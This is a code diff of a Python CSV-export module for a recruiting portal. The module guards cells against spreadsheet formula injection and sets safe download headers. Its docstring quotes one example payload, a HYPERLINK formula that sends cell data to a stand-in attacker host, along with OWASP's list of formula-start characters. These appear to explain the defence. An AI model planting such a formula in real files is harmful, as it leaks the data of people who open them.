@@ -1,50 +1,87 @@
-"""CSV files for people to open in a spreadsheet, safely.
+"""CSV files that are safe to open in a spreadsheet.
 
-A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
-is read by Excel, LibreOffice and Google Sheets as a formula, so text a
-candidate typed ("=HYPERLINK(...)") could run when a recruiter opens the
-export (CSV injection, OWASP). Such cells are written with a leading
-apostrophe, which spreadsheets show as text and do not display; everything
-else is written as it is. Files are UTF-8 with a byte-order mark (so Excel
-reads accents correctly) and CRLF line ends (RFC 4180).
+Spreadsheet programs (Excel, LibreOffice, Google Sheets) run a cell that starts
+with `=`, `+`, `-` or `@` as a formula, and some treat a leading tab or carriage
+return the same way. A candidate's name or a recruiter's text copied into an
+export could then run `=HYPERLINK("https://evil.example/?"&A2, "Click")` or
+worse on the computer of whoever opens the file (CSV or formula injection,
+OWASP). Every cell we write that starts with one of those characters gets a
+leading apostrophe, which spreadsheets show as text and hide.
+
+Every CSV the portal hands out goes through `csv_rows` (or `csv_text`): the
+import template, the talent-pool export and any later one. Numbers written as
+Python `int`/`float` are left alone, so a negative number stays a number; a
+string is always guarded, even "-3", because it may have come from anyone.
 """
 
 from __future__ import annotations
 
 import csv
 import io
-from collections.abc import Iterable, Sequence
+from collections.abc import Iterable, Iterator, Sequence
+from typing import Any
 
 from starlette.responses import Response
 
-FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+# What a spreadsheet may read as the start of a formula (OWASP's list).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+Cell = str | int | float | bool | None
 
 
-def safe_cell(value: object) -> str:
-    """One cell as text that no spreadsheet will take for a formula."""
-    text = "" if value is None else str(value)
-    return "'" + text if text.startswith(FORMULA_START) else text
+def safe_cell(value: Cell) -> str | int | float:
+    """One cell as written: text that could start a formula is prefixed with `'`."""
+    if value is None:
+        return ""
+    if isinstance(value, bool):
+        return "yes" if value else "no"
+    if isinstance(value, int | float):
+        return value
+    if value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
 
 
-def csv_text(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
-    """The whole file: a header row, then every row, each cell made safe."""
-    out = io.StringIO()
-    writer = csv.writer(out, lineterminator="\r\n")
-    writer.writerow([safe_cell(name) for name in header])
+def csv_rows(header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> Iterator[str]:
+    """The CSV text line by line (header first), for a streamed response.
+
+    Lines end in CRLF (RFC 4180) and every cell is guarded by `safe_cell`.
+    """
+    buffer = io.StringIO()
+    writer = csv.writer(buffer, lineterminator="\r\n")
+
+    def line(cells: Sequence[Any]) -> str:
+        writer.writerow([safe_cell(cell) for cell in cells])
+        text = buffer.getvalue()
+        buffer.seek(0)
+        buffer.truncate()
+        return text
+
+    yield line(header)
     for row in rows:
-        writer.writerow([safe_cell(value) for value in row])
-    return "\ufeff" + out.getvalue()
+        yield line(row)
 
 
-def csv_response(
-    filename: str, header: Sequence[str], rows: Iterable[Sequence[object]]
-) -> Response:
-    """A download of the file, never kept by a cache. `filename` must be plain ASCII."""
+def csv_text(header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> str:
+    """The whole CSV as one string (see `csv_rows`)."""
+    return "".join(csv_rows(header, rows))
+
+
+def attachment_headers(filename: str) -> dict[str, str]:
+    """Headers for a CSV download: a file to save, never cached by others, never sniffed."""
+    safe_name = "".join(c if c.isalnum() or c in "-_." else "-" for c in filename)
+    return {
+        "content-disposition": f'attachment; filename="{safe_name}"',
+        "cache-control": "no-store",
+        "x-content-type-options": "nosniff",
+    }
+
+
+def csv_response(filename: str, header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> Response:
+    """A whole CSV as a download, UTF-8 with a byte-order mark so that Excel reads
+    accented names correctly (other programs skip it)."""
     return Response(
-        csv_text(header, rows).encode("utf-8"),
+        ("\ufeff" + csv_text(header, rows)).encode("utf-8"),
         media_type="text/csv; charset=utf-8",
-        headers={
-            "content-disposition": f'attachment; filename="{filename}"',
-            "cache-control": "no-store",
-        },
+        headers=attachment_headers(filename),
     )
